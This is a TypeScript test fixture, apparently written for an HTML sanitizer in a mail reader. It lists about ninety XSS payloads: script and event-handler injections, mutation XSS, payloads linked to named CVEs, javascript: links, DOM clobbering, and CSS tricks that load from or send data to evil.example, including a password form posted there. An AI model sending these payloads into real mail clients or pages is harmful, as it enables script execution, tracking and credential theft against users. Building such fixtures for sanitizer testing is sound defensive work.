/** Shapes of published attacks on mail readers, and what security reviewers try next. `pwned()` must never run. */
export const HOSTILE: Record<string, string> = {
  script: '<script>pwned()</script>',
  'script in upper case with a slash': '<SCRIPT/x>pwned()</SCRIPT>',
  'event handler': '<img src="x" onerror="pwned()">',
  'event handler after a slash': '<img/src="x"/onerror=pwned()>',
  'event handler with a form feed': '<img src=x\fonerror=pwned()>',
  'handler on an unknown element': '<blink onmouseover=pwned()><x onfocus=pwned() autofocus tabindex=1>',
  'details ontoggle': '<details open ontoggle=pwned()>x</details>',
  'CVE-2024-37383 animate on href':
    '<svg><a><animate attributeName="href " values="javascript:pwned()"/><text y=20>x</text></a></svg>',
  'CVE-2025-68461 animate':
    '<svg><animate attributeName="fill" values="url(https://evil.example/a#b)" onbegin="pwned()"/></svg>',
  'set on href':
    '<svg><a id=x><rect width=9 height=9></a><set href="#x" attributeName="href" to="javascript:pwned()"/></svg>',
  'set on style':
    '<svg><rect><set attributeName="style" to="fill:url(https://evil.example/s)"/></rect></svg>',
  feImage:
    '<svg><filter id=f><feImage href="https://evil.example/fe.png"/></filter><rect filter="url(#f)"/></svg>',
  'CVE-2023-5631 use':
    '<svg><use href="data:image/s vg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJwd25lZCgpIi8+#x"></use></svg>',
  'use without a space': '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  'CVE-2020-16145 namespace':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  'namespace confusion by foreignObject':
    '<svg><foreignObject><p><style><img src="</style><img src=x onerror=pwned()>"></foreignObject></svg>',
  'style in svg':
    '<svg><style>@import "https://evil.example/i.css";*{background:url(https://evil.example/b)}</style></svg>',
  'style in svg with an image': '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  'annotation-xml':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
  'CVE-2024-42009 body attributes':
    '<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=pwned() foo=bar">x',
  'CVE-2020-12625 CDATA':
    '<![CDATA[<img src=x onerror=pwned()>]]><svg><![CDATA[><img src=x onerror=pwned()>]]></svg>',
  'conditional comment': '<!--[if gte IE 4]><script>pwned()</script><![endif]-->',
  'comment that ends early': '<!--><img src=x onerror=pwned()>--><!--!><img src=x onerror=pwned()>-->',
  'comment with bang': '<!-- --!><img src=x onerror=pwned()> -->',
  'processing instruction': '<?xml version="1.0"?><?php "?><img src=x onerror=pwned()>" ?>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  'textarea mutation': '<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>',
  'title mutation': '<title><a title="</title><img src=x onerror=pwned()>"></title>',
  'xmp mutation': '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
  plaintext: '<plaintext><img src=x onerror=pwned()>',
  'form mutation': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  'select mutation': '<select><style></select><img src=x onerror=pwned()></style>',
  'table mutation':
    '<table><a href="javascript:pwned()"><tr><td><svg><desc><td><title></desc><img src onerror=pwned()></title></td></svg>',
  template: '<template><img src=x onerror=pwned()></template>',
  'javascript link': '<a href="javascript:pwned()">x</a>',
  'javascript link with a tab and an entity': '<a href="jav&#x09;ascript&colon;pwned()">x</a>',
  'javascript link with control characters': '<a href="\u0001\u0000 java\nscript:pwned()">x</a>',
  'javascript link in mixed case': '<a href="JaVaScRiPt://%0apwned()">x</a>',
  'vbscript and data links':
    '<a href="vbscript:pwned()">x</a><a href="data:text/html,<script>pwned()</script>">y</a>',
  'blob, file and view-source links':
    '<a href="blob:x">x</a><a href="file:///etc/passwd">y</a><a href="view-source:x">z</a>',
  'relative link': '<a href="/api/users:list">x</a><a href="?x">y</a><a href="#top">z</a>',
  'data image with html':
    '<img src="data:text/html,<script>pwned()</script>"><img src="data:image/svg+xml,<svg onload=pwned()>">',
  'data image that breaks out': '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;pwned()">',
  'javascript image':
    '<img src="javascript:pwned()"><img lowsrc="javascript:pwned()" dynsrc="javascript:pwned()">',
  'relative image': '<img src="/api/mailAttachments:download?filterByTk=1"><img src="x.png">',
  srcset:
    '<img srcset="https://evil.example/a 1x"><picture><source srcset="https://evil.example/b"></picture>',
  'input image':
    '<input type=image src="https://evil.example/i" onerror=pwned()><button formaction=javascript:pwned()>x</button>',
  form: '<form action="https://evil.example/" id=login><input name=password><button>x</button></form>',
  iframe:
    '<iframe src="javascript:pwned()"></iframe><iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  'object, embed and applet':
    '<object data="data:text/html,<script>pwned()</script>"></object><embed src="javascript:pwned()"><applet code=x>',
  base: '<base href="https://evil.example/"><a href="x">x</a><img src="y">',
  'meta refresh':
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv=Content-Security-Policy content="x">',
  'link prefetch':
    '<link rel=prefetch href="https://evil.example/p"><link rel=dns-prefetch href="//evil.example"><link rel=stylesheet href="https://evil.example/c">',
  'style element':
    '<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b)}</style>',
  'style element that is not closed': '<b>x</b><style>*{background:url(https://evil.example/b)}',
  'position fixed': '<div style="position:fixed;top:0;left:0;z-index:99999;width:100%">x</div>',
  'position in an escape': '<div style="p\\6fsition:fixed;\\70osition:absolute">x</div>',
  'position after a comment': '<div style="/**/position/**/:/**/fixed;color:/*;position:fixed*/red">x</div>',
  'style that ends the rule':
    '<div style="color:red}*{position:fixed;background:url(https://evil.example/x)">x</div>',
  'unclosed url':
    '<div style="background:url(https://evil.example/x">a</div><div style="list-style-image:url(https://evil.example/l)">x</div>',
  'unclosed url with quotes': `<div style="background:url('https://evil.example/x;color:red">a</div>`,
  'url in an escape': '<div style="background:\\75\\72\\6c(https://evil.example/x)">x</div>',
  'image-set and others':
    '<div style="background-image:image-set(\'https://evil.example/x\' 1x);cursor:url(https://evil.example/c),auto;content:url(https://evil.example/d)">x</div>',
  'var and attr':
    '<div style="--x:url(https://evil.example/v);background:var(--x);color:attr(title)">x</div>',
  'expression, behavior and binding':
    '<div style="width:expression(pwned());behavior:url(#x);-moz-binding:url(https://evil.example/m)">x</div>',
  'url with javascript':
    '<div style="background:url(javascript:pwned())">x</div><table background="javascript:pwned()"><tr><td background="data:text/html,x">y</table>',
  'url that leaves its string':
    '<div style="background:url(&quot;https://ok.example/&quot;);position:fixed;x:url(&quot;x&quot;)">x</div>',
  'font face by url': '<div style="font:12px url(https://evil.example/f)">x</div>',
  'filter and mask':
    '<div style="filter:url(https://evil.example/f);mask:url(https://evil.example/m);clip-path:url(#x)">x</div>',
  animation: '<div style="animation-name:x;transition:all 9s" onanimationstart=pwned()>x</div>',
  'clobbering by id and name':
    '<img name=cookie><a id=location name=location></a><form id=document><input name=getElementById></form>',
  'class of the host page': '<div class="ant-modal nb-root" slot=x part=y is=z>x</div>',
  'attribute that breaks out':
    '<img alt="&quot;&gt;&lt;img src=x onerror=pwned()&gt;" src="https://ok.example/a.png">',
  'link that breaks out': '<a href="https://ok.example/&quot; onmouseover=&quot;pwned()">x</a>',
  'backtick attribute': '<img src="https://ok.example/a" alt="``onerror=pwned()">',
  'null bytes': '<scr\0ipt>pwned()</scr\0ipt><img sr\0c=x onerror\0=pwned()>',
  'entities for brackets': '&lt;script&gt;pwned()&lt;/script&gt;&#60;img src=x onerror=pwned()&#62;',
  'half a tag': '<img src=x onerror=pwned() <b',
  'unclosed attribute': '<a href="https://ok.example/ ><img src=x onerror=pwned()>',
  media:
    '<video src=https://evil.example/v onerror=pwned() autoplay><source onerror=pwned()></video><audio src=x onerror=pwned()>',
  'ping and download':
    '<a href="https://ok.example/" ping="https://evil.example/p" download target=_self rel=opener>x</a>',
  'map and area':
    '<img usemap=#m src=https://ok.example/a><map name=m><area href=javascript:pwned() shape=default></map>',
  marquee: '<marquee onstart=pwned()>x</marquee>',
  'prototype names':
    '<div __proto__=x constructor=y hasownproperty=z style="__proto__:x;constructor:y">x</div><__proto__>x',
  'dialog and popover': '<dialog open>x</dialog><div popover popovertarget=x>y</div>',
  'custom element': '<x-y onclick=pwned()>x</x-y><slot name=x>y</slot>',
};
